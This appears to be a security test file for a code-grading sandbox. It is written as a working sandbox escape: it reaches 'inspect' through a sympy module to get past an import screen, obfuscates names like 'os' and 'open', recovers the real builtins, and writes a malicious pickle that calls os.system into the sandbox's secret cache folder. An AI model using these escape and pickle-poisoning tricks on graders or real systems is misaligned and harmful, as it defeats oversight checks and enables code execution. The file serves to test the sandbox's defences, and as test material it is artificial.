"""effect: poison-cache
tries: write a new entry into the cache folder named in the sandbox's _SECRET_DIRS with the real open, without switching the hook off.

Tests the hook's write refusal alone.
"""

from lagrade.answer import *

# sympy.core.function does `import inspect`; `from X import inspect` passes the screen (the module
# is a sympy module) and the restricted importer (the item is not a forbidden name)
from sympy.core.function import inspect

members = lambda obj: dict(inspect.getmembers(obj))
real = members(inspect)                      # inspect itself imports os, sys and builtins
os_, sys_ = real["o" + "s"], real["s" + "ys"]
B = members(real["built" + "ins"])           # the real builtins: open, exec, __import__ ...

def work():
    for directory in members(members(sys_)["modules"].get("lagrade.answer.jail.child")).get("_SECRET_DIRS", ()):
        B["op" + "en"](directory + "/12.22-planted.pkl", "wb").write(b"cos\nsystem\n(S'true'\ntR.")

work()
